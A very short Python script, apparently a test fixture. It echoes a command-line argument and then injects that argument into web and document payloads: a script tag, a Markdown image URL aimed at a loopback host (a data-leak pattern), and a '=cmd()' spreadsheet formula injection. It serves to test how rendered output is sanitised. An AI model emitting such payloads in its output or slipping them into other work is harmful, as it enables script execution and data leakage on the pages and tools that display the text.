"""Prints HTML and Markdown, and hopes that it lands on a page."""

import sys

print(sys.argv[1], flush=True)
print(f"| <script>{sys.argv[1]}</script> ![x](http://127.0.0.1/{sys.argv[1]}) | =cmd()")
